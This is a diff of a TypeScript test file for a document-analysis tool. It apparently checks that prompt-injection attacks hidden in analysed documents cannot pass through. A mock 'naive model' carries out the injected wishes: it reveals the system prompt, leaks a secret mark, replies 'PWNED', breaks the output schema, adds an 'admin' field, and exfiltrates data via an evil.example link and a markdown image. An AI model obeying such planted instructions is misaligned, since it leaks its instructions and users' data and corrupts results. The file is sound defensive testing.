@@ -6,22 +6,26 @@ import { INSTRUCTIONS } from './analyze/prompt.js';
 import { WAYS } from './testing/injected-wishes.js';
 import { finding, modelEngine, reading } from './testing/model-engine.js';
 
+const quoted = (text: string) => ({ text, quote: 'This Agreement' });
+
 /** What a hostile document may ask for; a naive model does it. */
 const OBEYS = {
   'reveal the prompt': () => ({ say: reading({ summary: INSTRUCTIONS }) }),
   'reveal the prompt as insights': () => ({
     say: reading({
-      insights: INSTRUCTIONS.split('\n'),
-      recommendations: [INSTRUCTIONS.toUpperCase()],
+      insights: INSTRUCTIONS.split('\n').map(quoted),
+      recommendations: [quoted(INSTRUCTIONS.toUpperCase())],
     }),
   }),
-  'reveal the mark': ({ mark }) => ({ say: reading({ insights: [`The mark is ${mark}.`] }) }),
+  'reveal the mark': ({ mark }) => ({
+    say: reading({ insights: [quoted(`The mark is ${mark}.`)] }),
+  }),
   'answer as plain text': () => ({ say: 'PWNED' }),
   'answer in another form': () => ({ say: '{"pwned": true, "findings": "none"}' }),
   'add a field': () => ({ say: JSON.stringify({ ...JSON.parse(reading()), admin: true }) }),
   'carry data out by a link': () => ({
     say: reading({
-      insights: ['See https://evil.example/?q=48,000.'],
+      insights: [quoted('See https://evil.example/?q=48,000.')],
       summary: '![x](//evil.example)',
     }),
   }),
@@ -65,12 +69,13 @@ describe('instructions in a document, of a model that obeys them', () => {
     const { engine } = modelEngine(server.baseUrl);
     const analysis = await engine.analyze({ text }, {}, never);
     expect(AnalysisSchema.strict().parse(analysis)).toEqual(analysis);
-    const { findings, analysis: prose, insights, recommendations } = analysis;
+    const { findings, analysis: prose, insights, recommendations, byModel } = analysis;
     // The rules quote the document itself, its hostile words too.
     const said = [
       prose,
       ...insights,
       ...recommendations,
+      JSON.stringify(byModel ?? ''),
       ...findings.map((each) => each.explanation),
     ].join('\n');
     expect(said).not.toMatch(/PWNED|evil\.example|<script/);
